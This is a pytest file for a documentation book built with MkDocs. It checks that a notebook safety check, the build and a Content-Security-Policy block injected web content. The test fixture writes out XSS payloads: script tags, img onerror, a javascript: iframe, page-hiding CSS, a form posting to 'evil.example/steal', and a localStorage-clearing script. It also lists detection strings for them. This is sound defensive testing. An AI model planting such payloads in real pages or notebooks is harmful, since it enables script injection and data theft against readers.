"""A notebook pull request cannot run anything on the published book.

A copy of the book gets a notebook whose outputs and Markdown carry every
payload a reviewer might miss: an `application/javascript` output, `<script>`,
`<img onerror>`, an `<iframe src=javascript:>`, a `<style>` that hides the page,
a `<form>` posting elsewhere, an external image, a `text/markdown` output with
a script, a script in a Markdown cell, and widget state that would load code
from a CDN.

* The notebook check refuses each one with its cell number, and so does the build.
* Even with the check switched off, the built page is inert in Chromium: no
  payload runs, nothing is requested from another host, the page stays visible.
* The Content-Security-Policy is the second wall: an inline script written
  straight into a built page's content is blocked and reported.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys

import pytest

from conftest import ENV, ROOT, SOURCES, BookCopy
from roadmap.checks.notebook_safety import notebook_problems

pytestmark = pytest.mark.browser

NAME = "01-linear-regression-from-scratch.ipynb"
FLAGS = ["js", "script", "img", "iframe", "md_out", "md_cell", "md_img"]


def output(mime: str, body: str) -> dict:
    return {"output_type": "display_data", "metadata": {}, "data": {mime: body, "text/plain": "x"}}


def hostile(nb: dict) -> dict:
    html = ('<script>window.__pwned_script=1</script><img src="x" onerror="window.__pwned_img=1">'
            '<iframe src="javascript:parent.__pwned_iframe=1"></iframe><style>body{display:none}</style>'
            '<form action="https://evil.example/steal"><input name="q"></form><img src="https://evil.example/pixel.png">')
    cell = {"cell_type": "code", "execution_count": None, "id": "hostile-code", "metadata": {}, "source": "pass", "outputs": [
        output("application/javascript", "window.__pwned_js=1; localStorage.clear();"),
        output("text/html", html),
        output("text/markdown", "<script>window.__pwned_md_out=1</script>"),
    ]}
    markdown = {"cell_type": "markdown", "id": "hostile-md", "metadata": {},
                "source": '<script>window.__pwned_md_cell=1</script>\n\n<img src="x" onerror="window.__pwned_md_img=1">'}
    nb["cells"].insert(1, markdown)
    nb["cells"].insert(2, cell)
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    return nb


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory) -> BookCopy:
    root = tmp_path_factory.mktemp("hostile") / "book"
    root.mkdir()
    for name in SOURCES:
        src = ROOT / name
        (shutil.copytree if src.is_dir() else shutil.copy2)(src, root / name)
    path = root / "docs" / "projects" / NAME
    path.write_text(json.dumps(hostile(json.loads(path.read_text(encoding="utf-8"))), indent=1), encoding="utf-8")
    return BookCopy(root)


def test_the_check_names_every_payload(hostile_book: BookCopy):
    problems = notebook_problems(hostile_book.root / "docs" / "projects" / NAME)
    text = "\n".join(problems)
    assert "metadata.widgets" in text
    assert "cell 2: markdown cell holds HTML" in text
    assert "cell 3: output of type application/javascript" in text
    assert "cell 3: HTML output holds" in text
    assert "cell 3: output of type text/markdown" in text
    assert all(" — " in p for p in problems)


def test_the_build_refuses_the_notebook(hostile_book: BookCopy, tmp_path):
    result = hostile_book.build(tmp_path / "site")
    assert result.returncode != 0
    assert "would run in readers' browsers" in result.stderr and f"{NAME}: cell 3:" in result.stderr
    assert "Traceback" not in result.stderr


UNCHECKED_BUILD = """
import sys
import roadmap.checks.notebook_safety as safety
safety.notebook_problems = lambda path: []   # as if the check had a hole
from mkdocs.__main__ import cli
sys.argv = ["mkdocs", "build", "--strict", "-q", "-f", sys.argv[1], "-d", sys.argv[2]]
cli()
"""


@pytest.fixture(scope="module")
def unchecked_site(hostile_book: BookCopy, tmp_path_factory):
    out = tmp_path_factory.mktemp("unchecked-site")
    result = subprocess.run([sys.executable, "-c", UNCHECKED_BUILD, str(hostile_book.root / "mkdocs.yml"), str(out)],
                            cwd=hostile_book.root, env=ENV, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr
    return out


def test_even_unchecked_the_page_runs_nothing(unchecked_site, site_server, browser):
    html = (unchecked_site / "projects" / NAME.removesuffix(".ipynb") / "index.html").read_text(encoding="utf-8")
    article = html[html.index("<article"):html.rindex("</article>")]
    for needle in ("<script", "onerror", "<iframe", "<form", "<style", "evil.example", "javascript:"):
        assert needle not in article, needle
    with site_server(lambda: unchecked_site) as served:
        context = browser.new_context()
        page = context.new_page()
        foreign = []
        context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(served.origin)
                      else (foreign.append(route.request.url), route.abort()))
        page.goto(served.url(""))
        page.evaluate("localStorage.setItem('rm:keep', '1')")
        for url in (served.url(f"projects/{NAME.removesuffix('.ipynb')}/"), served.url("print_page/")):
            page.goto(url)
            page.wait_for_load_state("networkidle")
            ran = page.evaluate(f"{json.dumps(FLAGS)}.filter(f => window['__pwned_' + f])")
            assert ran == [], f"{url}: payloads ran: {ran}"
            assert page.evaluate("getComputedStyle(document.body).display") != "none"
        # Instant navigation from the home page to the notebook runs nothing either.
        page.goto(served.url(""))
        page.wait_for_load_state("networkidle")
        page.click(f"a[href$='projects/{NAME.removesuffix('.ipynb')}/']")
        page.wait_for_url(f"**/projects/{NAME.removesuffix('.ipynb')}/")
        page.wait_for_timeout(300)
        assert page.evaluate(f"{json.dumps(FLAGS)}.filter(f => window['__pwned_' + f])") == []
        assert page.evaluate("localStorage.getItem('rm:keep')") == "1"
        assert foreign == [], foreign
        context.close()


def test_the_policy_blocks_and_reports_an_inline_script(site, site_server, browser, tmp_path):
    copy = tmp_path / "site"
    shutil.copytree(site.root, copy)
    page_file = copy / "faq" / "index.html"
    html = page_file.read_text(encoding="utf-8")
    assert 'http-equiv="Content-Security-Policy"' in html
    at = html.index("<article")
    at = html.index(">", at) + 1
    page_file.write_text(html[:at] + "<script>window.__pwned_inline = 1</script>" + html[at:], encoding="utf-8")
    with site_server(lambda: copy) as served:
        context = browser.new_context()
        page = context.new_page()
        page.add_init_script("window.__violations = []; document.addEventListener('securitypolicyviolation',"
                             " e => window.__violations.push(e.violatedDirective))")
        page.goto(served.url("faq/"))
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.__pwned_inline") is None
        assert any(v.startswith("script-src") for v in page.evaluate("window.__violations"))
        # The book's own scripts still run under the policy: the palette toggle and the learner tools.
        assert page.evaluate("document.documentElement.classList.contains('rm-js')")
        assert page.evaluate("typeof window.rmLearner") == "object"
        context.close()
